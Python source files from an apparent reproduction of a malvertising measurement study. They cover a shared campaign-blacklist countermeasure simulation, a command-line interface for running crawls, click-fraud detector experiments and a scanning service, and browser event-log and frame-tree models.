        if campaign.campaign_id not in self.rejected_campaigns:
            self.rejected_campaigns.add(campaign.campaign_id)
            self.contributors[campaign.campaign_id] = network.network_id

    def is_listed(self, campaign: Campaign) -> bool:
        return campaign.campaign_id in self.rejected_campaigns


def apply_shared_blacklist(
    networks: list[AdNetwork],
    campaigns: list[Campaign],
    participation: float = 1.0,
    seed: int = 0,
) -> SharedSubmissionBlacklist:
    """Rebuild inventories with rejection sharing among participating networks.

    ``participation`` is the fraction of networks that join the programme
    (deterministically selected by seed); non-participants keep their old
    behaviour, which is how a voluntary industry scheme would roll out.
    Returns the shared blacklist for inspection.
    """
    if not 0.0 <= participation <= 1.0:
        raise ValueError("participation must be within [0, 1]")
    rand = fork(seed, "shared-blacklist-participation")
    participants = [n for n in networks if rand.random() < participation]
    shared = SharedSubmissionBlacklist()
    # Pass 1: every participant screens everything it would see and reports.
    for network in participants:
        for campaign in campaigns:
            if not submits_campaign(network, campaign):
                continue
            if not screen_campaign(network, campaign):
                shared.report_rejection(network, campaign)
    # Pass 2: rebuild inventories; participants also honour shared rejections.
    participant_ids = {n.network_id for n in participants}
    for network in networks:
        inventory = []
        for campaign in campaigns:
            if not submits_campaign(network, campaign):
                continue
            if not screen_campaign(network, campaign):
                continue
            if network.network_id in participant_ids and shared.is_listed(campaign):
                continue
            inventory.append(campaign)
        network.inventory = inventory
    return shared
