"""Command-line interface.

Subcommands:

* ``repro-study study``       — run the full pipeline, print the §4 report;
* ``repro-study figures``     — alias printing only the tables/figures;
* ``repro-study countermeasures`` — the §5 defences side by side;
* ``repro-study clickfraud``  — the intro's click-fraud workload + detectors;
* ``repro-study scarecrow``   — the SCARECROW defence experiment;
* ``repro-study serve``       — replay or stream a corpus through the
  online scanning service and print a throughput/cache report;
* ``repro-study store``       — fsck or compact a durable verdict store.

Every subcommand accepts ``--seed`` and the scale flags; all runs are
deterministic for a given seed.
"""

from __future__ import annotations

import argparse
import sys
from typing import Optional, Sequence

from repro.core.persistence import save_corpus, save_verdicts
from repro.core.report import build_report
from repro.core.study import StudyConfig, run_study
from repro.datasets.world import WorldParams


def _add_scale_args(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--seed", type=int, default=2014)
    parser.add_argument("--days", type=int, default=4,
                        help="crawl days (paper: 90)")
    parser.add_argument("--refreshes", type=int, default=4,
                        help="page refreshes per visit (paper: 5)")
    parser.add_argument("--sites", type=int, default=25,
                        help="sites per cluster (paper: 10,000+)")
    parser.add_argument("--feed-sites", type=int, default=8)


def _add_crawl_worker_args(parser: argparse.ArgumentParser,
                           flag: str = "--workers") -> None:
    # `serve` already uses --workers for oracle threads, so it passes an
    # alternate flag name; both land in args.crawl_workers.
    parser.add_argument(flag, dest="crawl_workers", type=int, default=1,
                        metavar="N",
                        help="parallel crawl workers (the merged corpus is "
                             "bit-identical at any worker count)")


def _add_chaos_args(parser: argparse.ArgumentParser) -> None:
    from repro.chaos.plan import PROFILES

    parser.add_argument("--chaos-profile", choices=sorted(PROFILES),
                        default="none",
                        help="seeded fault-injection profile for the crawl's "
                             "transport layer")
    parser.add_argument("--chaos-seed", type=int, default=None, metavar="N",
                        help="fault-plan seed (default: the study seed); the "
                             "same seed replays the identical fault sequence")
    parser.add_argument("--retries", type=int, default=0, metavar="N",
                        help="extra page-load attempts after a failed or "
                             "chaos-corrupted visit")
    parser.add_argument("--max-worker-restarts", type=int, default=0,
                        metavar="N",
                        help="crashed parallel-crawl workers respawned before "
                             "the crawl gives up")


def _config_from(args: argparse.Namespace) -> StudyConfig:
    return StudyConfig(
        seed=args.seed,
        days=args.days,
        refreshes_per_visit=args.refreshes,
        crawl_workers=getattr(args, "crawl_workers", 1),
        crawl_worker_mode=getattr(args, "crawl_worker_mode", "auto"),
        chaos_profile=getattr(args, "chaos_profile", "none"),
        chaos_seed=getattr(args, "chaos_seed", None),
        crawl_retries=getattr(args, "retries", 0),
        max_worker_restarts=getattr(args, "max_worker_restarts", 0),
        world_params=WorldParams(
            n_top_sites=args.sites,
            n_bottom_sites=args.sites,
            n_other_sites=args.sites,
            n_feed_sites=args.feed_sites,
        ),
    )


def _cmd_study(args: argparse.Namespace) -> int:
    from repro.core.study import Study

    study = Study(_config_from(args))
    results = study.classify(study.crawl(
        resume_from=args.resume_from,
        checkpoint_path=args.checkpoint,
        checkpoint_every=args.checkpoint_every,
    ))
    report = build_report(results)
    print(report.render_markdown() if args.markdown else report.render())
    if args.save_corpus:
        n = save_corpus(results.corpus, args.save_corpus)
        print(f"\nwrote {n} unique ads to {args.save_corpus}", file=sys.stderr)
    if args.save_verdicts:
        n = save_verdicts(results, args.save_verdicts)
        print(f"wrote {n} verdicts to {args.save_verdicts}", file=sys.stderr)
    return 0


def _cmd_figures(args: argparse.Namespace) -> int:
    results = run_study(_config_from(args))
    print(build_report(results).render())
    return 0


def _cmd_countermeasures(args: argparse.Namespace) -> int:
    from repro.analysis.networks import analyze_networks
    from repro.core.study import Study
    from repro.countermeasures.adblock import simulate_adblock
    from repro.countermeasures.browser_defense import AdPathDefense
    from repro.countermeasures.penalties import PenaltyPolicy, apply_penalties
    from repro.countermeasures.shared_blacklist import apply_shared_blacklist
    from repro.datasets.world import build_world
    from repro.filterlists.matcher import FilterEngine

    config = _config_from(args)
    baseline = run_study(config)
    base = baseline.n_incidents
    print(f"baseline: {base} incidents "
          f"({baseline.malicious_fraction:.2%} of unique ads)\n")

    world = build_world(config.seed, config.world_params)
    shared = apply_shared_blacklist(world.networks, world.campaigns, 1.0)
    defended = Study(config, world=world).run()
    print(f"shared blacklist: {base} -> {defended.n_incidents} incidents "
          f"({len(shared.rejected_campaigns)} campaigns listed)")

    world = build_world(config.seed, config.world_params)
    outcome = apply_penalties(world.networks, analyze_networks(baseline),
                              PenaltyPolicy())
    punished = Study(config, world=world).run()
    print(f"penalties: {base} -> {punished.n_incidents} incidents "
          f"({len(outcome.banned_networks)} networks banned)")

    engine = FilterEngine.from_text(baseline.world.easylist_text)
    print(simulate_adblock(baseline, engine).render())
    defense = AdPathDefense.train_from_results(baseline)
    print(defense.evaluate(baseline).render())
    return 0


def _cmd_clickfraud(args: argparse.Namespace) -> int:
    from repro.clickfraud.detectors import (
        BloomDuplicateDetector,
        CtrAnomalyDetector,
        SlidingWindowDetector,
    )
    from repro.clickfraud.events import Botnet, ClickStreamBuilder, OrganicAudience
    from repro.clickfraud.evaluation import score_detector

    campaigns = [f"cmp-{i}" for i in range(6)]
    builder = ClickStreamBuilder(seed=args.seed)
    for i in range(4):
        builder.add_audience(OrganicAudience(
            f"honest{i}.com", "net-a", campaigns, n_users=200, ctr=0.015))
    builder.add_botnet(Botnet("fraudster.biz", "net-a", campaigns,
                              n_bots=40, mode=args.mode))
    stream = builder.build(args.steps)
    fraud = sum(e.fraudulent for e in stream)
    print(f"stream: {len(stream)} clicks, {fraud} fraudulent "
          f"(mode: {args.mode})\n")
    detectors = [
        ("sliding-window dedup", SlidingWindowDetector(window=3)),
        ("bloom dedup", BloomDuplicateDetector(window=3, capacity=200_000)),
        ("CTR anomaly", CtrAnomalyDetector(factor=2.5)),
    ]
    for name, detector in detectors:
        score = score_detector(stream, detector.flag_stream(stream))
        print(score.render(name))
    return 0


def _cmd_scarecrow(args: argparse.Namespace) -> int:
    from repro.countermeasures.scarecrow import run_scarecrow_experiment

    print(run_scarecrow_experiment().render())
    return 0


def _cmd_disasm(args: argparse.Namespace) -> int:
    from pathlib import Path

    from repro.adscript.bytecode import compile_source, disassemble
    from repro.adscript.errors import AdScriptError

    try:
        source = Path(args.script).read_text(encoding="utf-8")
    except OSError as exc:
        print(f"disasm: cannot read {args.script}: {exc}")
        return 1
    try:
        code = compile_source(source, fuse=not args.raw)
    except AdScriptError as exc:
        print(f"disasm: {type(exc).__name__}: {exc}")
        return 1
    print(disassemble(code))
    return 0


def _load_gateway(args: argparse.Namespace, service) -> tuple:
    """Build the multi-tenant gateway for ``serve --tenants``.

    Returns ``(gateway, keys)`` where ``keys`` maps tenant id to the
    plaintext API key the CLI submits with: the key from the tenants
    file when given, else the key minted deterministically from the
    study seed (entries carrying only a ``key_hash`` cannot be driven by
    the CLI and are skipped with a note).
    """
    import json as _json
    from pathlib import Path

    from repro.gateway import GatewayConfig, ScanGateway, TenantRegistry, mint_key

    registry = TenantRegistry.from_file(args.tenants, secret_seed=args.seed)
    gateway = ScanGateway(service, registry=registry, config=GatewayConfig(
        require_auth=args.require_auth, secret_seed=args.seed))
    text = Path(args.tenants).read_text(encoding="utf-8").strip()
    entries = (_json.loads(text) if text.startswith("[")
               else [_json.loads(line) for line in text.splitlines() if line.strip()])
    keys = {}
    for entry in entries:
        tenant_id = entry["tenant_id"]
        if entry.get("api_key"):
            keys[tenant_id] = entry["api_key"]
        elif entry.get("key_hash"):
            print(f"gateway: tenant {tenant_id!r} has only a key hash; "
                  f"the CLI cannot submit on its behalf", file=sys.stderr)
        else:
            keys[tenant_id] = mint_key(args.seed, tenant_id)
    return gateway, keys


def _print_gateway_report(gateway) -> None:
    stats = gateway.stats()
    totals = stats["totals"]
    admission = stats["admission"]
    print("\n-- gateway report --")
    print(f"requests:       {totals.get('gateway_requests', 0)} "
          f"({totals.get('gateway_auth_failures', 0)} auth failures)")
    print(f"admitted:       {totals.get('gateway_admitted', 0)} "
          f"(throttled {totals.get('gateway_throttled', 0)}, "
          f"quota-rejected {totals.get('gateway_quota_rejected', 0)}, "
          f"buffer-rejected {totals.get('gateway_admission_rejected', 0)})")
    print(f"admission:      depth high-water {admission['high_water']} "
          f"of {admission['capacity']}")
    for tenant_id, rollup in sorted(stats["tenants"].items()):
        usage = rollup["usage"]
        counters = rollup["counters"]
        latency = rollup["admission_latency"]
        print(f"tenant {tenant_id:<12} submitted {counters.get('submitted', 0)}, "
              f"admitted {counters.get('admitted', 0)}, "
              f"throttled {counters.get('throttled', 0)}, "
              f"quota-rej {usage['quota_rejections']}")
        print(f"  {'':<12} spend {usage['spend']:g} "
              f"({usage['fresh_scans']} fresh, {usage['cached_hits']} cached), "
              f"verdicts {counters.get('malicious', 0)} malicious / "
              f"{counters.get('benign', 0)} benign, "
              f"adm p50 {latency.get('p50', 0.0) * 1000:.1f}ms "
              f"p95 {latency.get('p95', 0.0) * 1000:.1f}ms "
              f"p99 {latency.get('p99', 0.0) * 1000:.1f}ms")


def _run_load_profile(args: argparse.Namespace, service, gateway,
                      tenant_keys: dict) -> None:
    """Drive seeded open-loop traffic at the service (or its gateway)."""
    from repro.loadgen import (
        LoadDriver,
        build_population,
        generate_schedule,
        load_profile,
    )

    profile = load_profile(args.load_profile)
    population = build_population(args.seed, service.config.world_params)
    tenant_ids = sorted(tenant_keys) if tenant_keys else None
    schedule = generate_schedule(profile, args.seed,
                                 n_ranks=len(population), tenants=tenant_ids)
    print(f"load profile:   {profile.name}, {len(schedule)} arrivals over "
          f"{profile.duration:g}s model time "
          f"(~{schedule.offered_rate():.0f}/s offered, schedule fingerprint "
          f"{schedule.fingerprint()[:12]})")
    driver = LoadDriver(schedule, population, time_scale=args.time_scale)
    tickets: list = []
    if gateway is not None:
        report = driver.run_gateway(gateway, tenant_keys, tickets_out=tickets)
        gateway.drain()
    else:
        report = driver.run(service, tickets_out=tickets)
        service.drain()
    rate = (report.submitted / report.wall_seconds
            if report.wall_seconds > 0 else float("inf"))
    print(f"load replay:    {report.offered} offered, "
          f"{report.submitted} submitted, {report.shed} shed in "
          f"{report.wall_seconds:.2f}s wall ({rate:.0f} submitted/s, "
          f"time scale x{report.time_scale:g})")
    if report.refusals:
        refusals = ", ".join(f"{count} x HTTP {status}"
                             for status, count in sorted(report.refusals.items()))
        print(f"refused:        {refusals}")
    malicious = sum(1 for t in tickets if t.result().is_malicious)
    print(f"verdicts:       {malicious} malicious of {len(tickets)}")


def _parse_autoscale(spec: str) -> tuple[int, int]:
    lo_text, sep, hi_text = spec.partition(":")
    try:
        lo, hi = int(lo_text), int(hi_text)
    except ValueError:
        raise SystemExit(f"--autoscale expects MIN:MAX, got {spec!r}")
    if not sep or lo < 1 or hi < lo:
        raise SystemExit(f"--autoscale expects 1 <= MIN <= MAX, got {spec!r}")
    return lo, hi


def _cmd_serve(args: argparse.Namespace) -> int:
    import time

    from repro.core.persistence import load_corpus
    from repro.core.study import Study
    from repro.service import ScanService, ServiceConfig, VerdictCache

    config = _config_from(args)
    autoscale_min = autoscale_max = None
    if args.autoscale:
        autoscale_min, autoscale_max = _parse_autoscale(args.autoscale)
    service_config = ServiceConfig(
        seed=args.seed,
        n_workers=args.workers,
        queue_capacity=args.queue_capacity,
        queue_policy=args.queue_policy,
        batch_max_size=args.batch_size,
        batch_max_delay=args.batch_delay,
        cache_capacity=args.cache_capacity,
        world_params=config.world_params,
        store_path=args.store,
        autoscale_min=autoscale_min,
        autoscale_max=autoscale_max,
    )
    cache = None
    if args.load_cache:
        cache = VerdictCache.load(args.load_cache,
                                  capacity=args.cache_capacity)
        print(f"warmed cache with {len(cache)} verdicts from {args.load_cache}",
              file=sys.stderr)

    with ScanService(service_config, cache=cache) as service:
        if service.store is not None:
            recovery = service.store.recovery
            print(f"store: {len(service.store)} verdicts recovered from "
                  f"{args.store} ({recovery.segments_scanned} segments, "
                  f"{recovery.truncated_tails} torn tails truncated, "
                  f"{recovery.quarantined_records} records quarantined)")
        gateway = None
        tenant_keys: dict = {}
        if args.tenants:
            gateway, tenant_keys = _load_gateway(args, service)
            print(f"gateway: {len(gateway.registry)} tenants from "
                  f"{args.tenants} (auth "
                  f"{'required' if args.require_auth else 'optional'})")
        elif args.require_auth:
            print("--require-auth needs --tenants <file>", file=sys.stderr)
            return 2
        if args.load_profile:
            _run_load_profile(args, service, gateway, tenant_keys)
            corpus = None
        elif args.corpus:
            corpus = load_corpus(args.corpus)
            print(f"loaded {corpus.unique_ads} unique ads "
                  f"({corpus.total_impressions} impressions) from {args.corpus}")
        else:
            study = Study(config)
            if args.stream:
                started = time.perf_counter()
                corpus, _, tickets = study.stream(
                    service,
                    resume_from=args.resume_from,
                    checkpoint_path=args.checkpoint,
                    checkpoint_every=args.checkpoint_every,
                )
                service.drain()
                elapsed = time.perf_counter() - started
                malicious = sum(
                    1 for t in tickets.values() if t.result().is_malicious)
                print(f"streamed crawl: {corpus.unique_ads} unique ads "
                      f"classified during the crawl in {elapsed:.2f}s "
                      f"({malicious} malicious at first sight)")
            else:
                if config.crawl_workers > 1:
                    crawler = study.build_parallel_crawler()
                else:
                    crawler = study.build_crawler()
                corpus, _ = crawler.crawl(study.build_schedule())
                print(f"crawled {corpus.unique_ads} unique ads "
                      f"({corpus.total_impressions} impressions)")

        for replay in (range(1, args.replays + 1) if corpus is not None
                       else ()):
            started = time.perf_counter()
            if gateway is not None:
                # Round-robin the corpus across the driveable tenants, as
                # if each were a customer replaying its share of traffic.
                from repro.gateway import GatewayError

                order = sorted(tenant_keys)
                tickets = []
                refused = 0
                for i, record in enumerate(corpus.records()):
                    key = tenant_keys[order[i % len(order)]]
                    try:
                        tickets.append(gateway.submit_record(key, record))
                    except GatewayError:
                        refused += 1
                gateway.drain()
                elapsed = time.perf_counter() - started
                malicious = sum(1 for t in tickets if t.result().is_malicious)
                hits = sum(1 for t in tickets if t.from_cache)
                rate = len(tickets) / elapsed if elapsed > 0 else float("inf")
                print(f"replay {replay}: {len(tickets)} ads via gateway in "
                      f"{elapsed:.2f}s ({rate:.0f} ads/s), {hits} cache hits, "
                      f"{malicious} malicious, {refused} refused")
                continue
            tickets = service.submit_corpus(corpus)
            service.drain()
            elapsed = time.perf_counter() - started
            malicious = sum(1 for t in tickets if t.result().is_malicious)
            hits = sum(1 for t in tickets if t.from_cache)
            rate = corpus.unique_ads / elapsed if elapsed > 0 else float("inf")
            print(f"replay {replay}: {corpus.unique_ads} ads in {elapsed:.2f}s "
                  f"({rate:.0f} ads/s), {hits} cache hits, "
                  f"{malicious} malicious")

        stats = service.stats()
        counters = stats["counters"]
        latency = stats["histograms"].get("scan_latency", {})
        batch = stats["histograms"].get("batch_size", {})
        print("\n-- service report --")
        pool = stats["pool"]
        if service.autoscaler is not None:
            print(f"workers:        {pool['size']} "
                  f"(peak {pool['peak_size']}, min {pool['min_size']}, "
                  f"bounds {service.autoscaler.config.min_workers}-"
                  f"{service.autoscaler.config.max_workers})")
        else:
            print(f"workers:        {pool['workers']}")
        print(f"submitted:      {counters.get('submitted', 0)}")
        print(f"oracle scans:   {counters.get('scanned', 0)}")
        print(f"cache hits:     {counters.get('cache_hits', 0)} "
              f"(hit rate {stats['cache']['hit_rate']:.1%})")
        for cache_name in sorted(stats.get("compile_caches", {})):
            cc = stats["compile_caches"][cache_name]
            lookups = cc["hits"] + cc["misses"]
            if not lookups:
                continue
            print(f"compile cache:  {cache_name} {cc['hits']}/{lookups} hits "
                  f"(hit rate {cc['hit_rate']:.1%}, "
                  f"size {cc['size']}/{cc['capacity']})")
        hotpath = stats.get("vm_hotpath", {})
        if any(hotpath.values()):
            ic_lookups = hotpath.get("ic_hits", 0) + hotpath.get(
                "ic_misses", 0)
            ic_rate = (hotpath.get("ic_hits", 0) / ic_lookups
                       if ic_lookups else 0.0)
            print(f"vm hot path:    "
                  f"{hotpath.get('superinstructions_executed', 0)} "
                  f"superinstructions, {hotpath.get('ic_hits', 0)}/"
                  f"{ic_lookups} inline-cache hits "
                  f"(hit rate {ic_rate:.1%})")
        print(f"coalesced:      {counters.get('coalesced', 0)}")
        print(f"rejected:       {counters.get('rejected', 0)}")
        print(f"batch size:     mean {batch.get('mean', 0.0):.1f} "
              f"(max {batch.get('max', 0.0):.0f})")
        print(f"scan latency:   p50 {latency.get('p50', 0.0) * 1000:.1f}ms, "
              f"p95 {latency.get('p95', 0.0) * 1000:.1f}ms, "
              f"p99 {latency.get('p99', 0.0) * 1000:.1f}ms")
        if counters.get("first_sight_submissions", 0):
            sight_latency = stats["histograms"].get("first_sight_latency", {})
            print(f"first sights:   {counters['first_sight_submissions']} "
                  f"({counters.get('shard_dedup_hits', 0)} cross-shard "
                  f"dedup hits)")
            print(f"overlapped:     {counters.get('overlapped_scans', 0)} "
                  f"scans finished mid-crawl")
            print(f"sight latency:  "
                  f"p50 {sight_latency.get('p50', 0.0) * 1000:.1f}ms, "
                  f"p95 {sight_latency.get('p95', 0.0) * 1000:.1f}ms, "
                  f"p99 {sight_latency.get('p99', 0.0) * 1000:.1f}ms")
        if service.store is not None:
            store_stats = stats["store"]
            bloom = store_stats["bloom"]
            print(f"store:          {store_stats['records']} verdicts in "
                  f"{store_stats['segments']['sealed']} sealed + "
                  f"{store_stats['segments']['open']} open segments")
            print(f"store hits:     {counters.get('store_hits', 0)} "
                  f"(bloom answered {bloom['negatives']} never-seen probes "
                  f"with zero I/O, hit ratio {bloom['hit_ratio']:.1%})")
            recovery = store_stats["recovery"]
            if recovery.get("fast_open"):
                print(f"store open:     fast "
                      f"({recovery.get('sidecars_used', 0)} sidecars, "
                      f"0 segments replayed)")
        if service.autoscaler is not None:
            scaler = stats["autoscaler"]
            print(f"autoscaler:     {scaler['scale_ups']} scale-ups, "
                  f"{scaler['scale_downs']} scale-downs over "
                  f"{scaler['evaluations']} evaluations")
            timeline = scaler["timeline"]
            shown = timeline[-12:]
            if len(timeline) > len(shown) or scaler["timeline_dropped"]:
                hidden = (len(timeline) - len(shown)
                          + scaler["timeline_dropped"])
                print(f"  ... {hidden} earlier events elided")
            for event in shown:
                print(f"  t+{event['at']:8.3f}s {event['direction']:>4} "
                      f"{event['from']}->{event['to']} "
                      f"({event['reason']}, queue depth "
                      f"{event['queue_depth']}, "
                      f"wait p99 {event['wait_p99'] * 1000:.1f}ms)")
        if gateway is not None:
            _print_gateway_report(gateway)
        if args.save_cache:
            n = service.cache.save(args.save_cache)
            print(f"wrote {n} cached verdicts to {args.save_cache}",
                  file=sys.stderr)
    return 0


def _cmd_store(args: argparse.Namespace) -> int:
    from repro.store import VerdictStore

    try:
        store = VerdictStore(args.root)
    except (OSError, ValueError, RuntimeError) as exc:
        print(f"store: cannot open {args.root}: {exc}", file=sys.stderr)
        return 2
    try:
        recovery = store.recovery
        print(f"opened {args.root}: {len(store)} live verdicts, "
              f"{recovery.segments_scanned} segments scanned"
              + (f", {recovery.truncated_tails} torn tails truncated"
                 if recovery.truncated_tails else "")
              + (f", {recovery.quarantined_records} records quarantined"
                 if recovery.quarantined_records else "")
              + (", manifest rebuilt" if recovery.manifest_rebuilt else "")
              + (f" (fast open: {recovery.sidecars_used} sidecars)"
                 if recovery.fast_open else ""))
        if args.action == "fsck":
            report = store.fsck()
            print(f"fsck: {report.records} records in "
                  f"{report.sealed_segments} sealed + "
                  f"{report.open_segments} open segments, "
                  f"{report.live_records} live")
            print(f"fsck: sidecars {report.sidecars_ok} ok, "
                  f"{report.sidecars_missing} missing, "
                  f"{report.sidecars_stale} stale, "
                  f"{report.sidecars_corrupt} corrupt")
            for problem in report.problems:
                print(f"  {problem}")
            if report.clean:
                print("fsck: clean")
                return 0
            print(f"fsck: {report.corrupt_records} corrupt records, "
                  f"{report.invalid_seals} invalid seals, "
                  f"{report.torn_tails} torn tails "
                  f"({report.torn_bytes} bytes)")
            return 1
        # compact
        before = store.fingerprint()
        sidecars_before = store.sidecar_writes
        report = store.compact()
        assert store.fingerprint() == before, \
            "compaction changed the live contents"
        print(f"compact: folded {report.segments_folded} segments into "
              f"{report.segments_written} across "
              f"{report.shards_compacted} shards "
              f"({report.records_kept} records kept, "
              f"{report.superseded_dropped} superseded dropped)")
        print(f"compact: {store.sidecar_writes - sidecars_before} sidecars "
              f"regenerated for fast reopen"
              + (f" ({store.sidecar_write_failures} write failures)"
                 if store.sidecar_write_failures else ""))
        return 0
    finally:
        store.close()


def build_parser() -> argparse.ArgumentParser:
    from repro import __version__

    parser = argparse.ArgumentParser(
        prog="repro-study",
        description="Reproduction of 'The Dark Alleys of Madison Avenue' (IMC 2014)",
    )
    parser.add_argument("--version", action="version",
                        version=f"%(prog)s {__version__}")
    sub = parser.add_subparsers(dest="command", required=True)

    study = sub.add_parser("study", help="run the full pipeline and report")
    _add_scale_args(study)
    _add_crawl_worker_args(study)
    _add_chaos_args(study)
    study.add_argument("--markdown", action="store_true")
    study.add_argument("--save-corpus", metavar="PATH")
    study.add_argument("--save-verdicts", metavar="PATH")
    study.add_argument("--checkpoint", metavar="PATH",
                       help="snapshot crawl progress to this file")
    study.add_argument("--checkpoint-every", type=int, default=25, metavar="N",
                       help="visits between crawl checkpoints")
    study.add_argument("--resume-from", metavar="PATH",
                       help="resume the crawl from a checkpoint file")
    study.set_defaults(fn=_cmd_study)

    figures = sub.add_parser("figures", help="print every table and figure")
    _add_scale_args(figures)
    _add_crawl_worker_args(figures)
    _add_chaos_args(figures)
    figures.set_defaults(fn=_cmd_figures)

    counter = sub.add_parser("countermeasures", help="evaluate the §5 defences")
    _add_scale_args(counter)
    _add_crawl_worker_args(counter)
    counter.set_defaults(fn=_cmd_countermeasures)

    fraud = sub.add_parser("clickfraud", help="click-fraud workload + detectors")
    fraud.add_argument("--seed", type=int, default=1)
    fraud.add_argument("--steps", type=int, default=40)
    fraud.add_argument("--mode", choices=("naive", "distributed", "duplicate_heavy"),
                       default="duplicate_heavy")
    fraud.set_defaults(fn=_cmd_clickfraud)

    scarecrow = sub.add_parser("scarecrow", help="SCARECROW defence experiment")
    scarecrow.set_defaults(fn=_cmd_scarecrow)

    disasm = sub.add_parser(
        "disasm", help="compile an AdScript file and print its bytecode")
    disasm.add_argument("script", metavar="FILE.js",
                        help="AdScript source file to disassemble")
    disasm.add_argument("--raw", action="store_true",
                        help="show the pre-fusion stream (no "
                             "superinstructions)")
    disasm.set_defaults(fn=_cmd_disasm)

    serve = sub.add_parser(
        "serve", help="run a corpus through the online scanning service")
    _add_scale_args(serve)
    serve.add_argument("--workers", type=int, default=2,
                       help="oracle worker threads")
    _add_crawl_worker_args(serve, flag="--crawl-workers")
    serve.add_argument("--crawl-worker-mode",
                       choices=("auto", "process", "thread"),
                       default="thread",
                       help="parallel crawl worker isolation (default thread: "
                            "safest inside the already-threaded service host; "
                            "process streams sights over worker pipes)")
    _add_chaos_args(serve)
    serve.add_argument("--checkpoint", metavar="PATH",
                       help="snapshot streamed-crawl progress to this file")
    serve.add_argument("--checkpoint-every", type=int, default=25, metavar="N",
                       help="visits between crawl checkpoints")
    serve.add_argument("--resume-from", metavar="PATH",
                       help="resume a streamed crawl from a checkpoint "
                            "(already-ticketed creatives are not re-submitted)")
    serve.add_argument("--corpus", metavar="PATH",
                       help="replay a saved corpus instead of crawling")
    serve.add_argument("--stream", action="store_true",
                       help="classify ads while the crawl is still running")
    serve.add_argument("--replays", type=int, default=2,
                       help="corpus replay passes (pass 2+ shows the warm cache)")
    serve.add_argument("--batch-size", type=int, default=8)
    serve.add_argument("--batch-delay", type=float, default=0.05,
                       help="micro-batch deadline in seconds")
    serve.add_argument("--autoscale", metavar="MIN:MAX",
                       help="run an elastic worker pool between MIN and MAX "
                            "workers (verdicts stay bit-identical to any "
                            "fixed pool)")
    serve.add_argument("--load-profile", metavar="NAME[:FACTOR]",
                       help="drive seeded open-loop traffic instead of a "
                            "corpus replay (steady, burst, diurnal; FACTOR "
                            "scales the rates)")
    serve.add_argument("--time-scale", type=float, default=1.0, metavar="X",
                       help="compress load-profile time onto the wall clock "
                            "by X (default 1.0)")
    serve.add_argument("--queue-capacity", type=int, default=256)
    serve.add_argument("--queue-policy", choices=("block", "reject"),
                       default="block")
    serve.add_argument("--cache-capacity", type=int, default=65536)
    serve.add_argument("--load-cache", metavar="PATH",
                       help="warm the verdict cache from a saved file")
    serve.add_argument("--save-cache", metavar="PATH",
                       help="persist the verdict cache on shutdown")
    serve.add_argument("--store", metavar="DIR",
                       help="durable verdict store directory: verdicts "
                            "persist as they are scanned and survive "
                            "crashes; reopening warm-starts the service")
    serve.add_argument("--tenants", metavar="PATH",
                       help="tenants file (JSON list or JSONL) enabling the "
                            "multi-tenant gateway; replays route through "
                            "auth → rate limit → quota → fair admission")
    serve.add_argument("--require-auth", action="store_true",
                       help="refuse keyless submissions (401) instead of "
                            "mapping them to the anonymous tenant")
    serve.set_defaults(fn=_cmd_serve)

    store = sub.add_parser(
        "store", help="inspect or maintain a durable verdict store")
    store.add_argument("action", choices=("fsck", "compact"),
                       help="fsck: verify every segment (exit 1 on damage); "
                            "compact: fold sealed segments, dropping "
                            "superseded records")
    store.add_argument("root", metavar="DIR",
                       help="verdict store directory")
    store.set_defaults(fn=_cmd_store)
    return parser


def main(argv: Optional[Sequence[str]] = None) -> int:
    args = build_parser().parse_args(argv)
    return args.fn(args)


if __name__ == "__main__":
    raise SystemExit(main())
