"""Behavioural event timeline.

Every observable action during a page load — navigations, writes, element
creation, resource loads, plugin probes, exploit attempts, downloads, eval
calls, script errors — is appended to an :class:`EventLog`.  The oracle's
feature extraction (:mod:`repro.oracles.features`) consumes this log; it is
the moral equivalent of Wepawet's instrumented browser trace.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Iterator, Optional

# Event kinds emitted by the browser.
NAVIGATION = "navigation"                # frame navigates itself
TOP_NAVIGATION = "top_navigation"        # a frame navigates the top window
DOCUMENT_WRITE = "document_write"
ELEMENT_CREATED = "element_created"
RESOURCE_LOAD = "resource_load"
PLUGIN_PROBE = "plugin_probe"            # script enumerates navigator.plugins
EXPLOIT_ATTEMPT = "exploit_attempt"      # plugin content tried to exploit
EXPLOIT_SUCCESS = "exploit_success"
DOWNLOAD = "download"
EVAL_CALL = "eval"
TIMER_SET = "timer_set"
SCRIPT_ERROR = "script_error"
DIALOG = "dialog"                        # alert/confirm/prompt
POPUP = "popup"                          # window.open
COOKIE_SET = "cookie_set"
REDIRECT = "redirect"                    # HTTP-level redirect observed
NX_REDIRECT = "nx_redirect"              # redirect chain hit NXDOMAIN
TRANSPORT_FAILURE = "transport_failure"  # chain died for a non-DNS reason


@dataclass
class BrowserEvent:
    """One observed behaviour."""

    kind: str
    frame_url: str
    data: dict[str, Any] = field(default_factory=dict)

    def __repr__(self) -> str:
        return f"BrowserEvent({self.kind}, {self.frame_url}, {self.data})"


class EventLog:
    """Ordered collection of :class:`BrowserEvent`."""

    def __init__(self) -> None:
        self.events: list[BrowserEvent] = []

    def record(self, kind: str, frame_url: str, **data: Any) -> BrowserEvent:
        event = BrowserEvent(kind, frame_url, data)
        self.events.append(event)
        return event

    def of_kind(self, *kinds: str) -> list[BrowserEvent]:
        wanted = set(kinds)
        return [e for e in self.events if e.kind in wanted]

    def count(self, kind: str) -> int:
        return sum(1 for e in self.events if e.kind == kind)

    def __iter__(self) -> Iterator[BrowserEvent]:
        return iter(self.events)

    def __len__(self) -> int:
        return len(self.events)
