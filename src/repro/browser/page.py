"""Loaded-page model: a tree of frames, each with its own document.

Advertisements live in iframes (the paper extracted them per-iframe), so
the frame tree is a first-class object: each :class:`Frame` knows its URL,
its parsed document, its parent, and the child frames discovered while
loading.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Iterator, Optional

from repro.web.dom import Document, Element
from repro.web.url import Url


class Frame:
    """One browsing context (the top window or an iframe)."""

    def __init__(
        self,
        url: Url,
        document: Document,
        parent: Optional["Frame"] = None,
        element: Optional[Element] = None,
        source_html: str = "",
    ) -> None:
        self.url = url
        self.document = document
        self.parent = parent
        self.element = element  # the <iframe> element in the parent document
        self.source_html = source_html  # the markup as received over HTTP
        self.children: list["Frame"] = []
        self.navigations: list[str] = []  # URLs this frame navigated itself to

    @property
    def is_top(self) -> bool:
        return self.parent is None

    @property
    def top(self) -> "Frame":
        frame = self
        while frame.parent is not None:
            frame = frame.parent
        return frame

    @property
    def depth(self) -> int:
        depth = 0
        frame = self
        while frame.parent is not None:
            depth += 1
            frame = frame.parent
        return depth

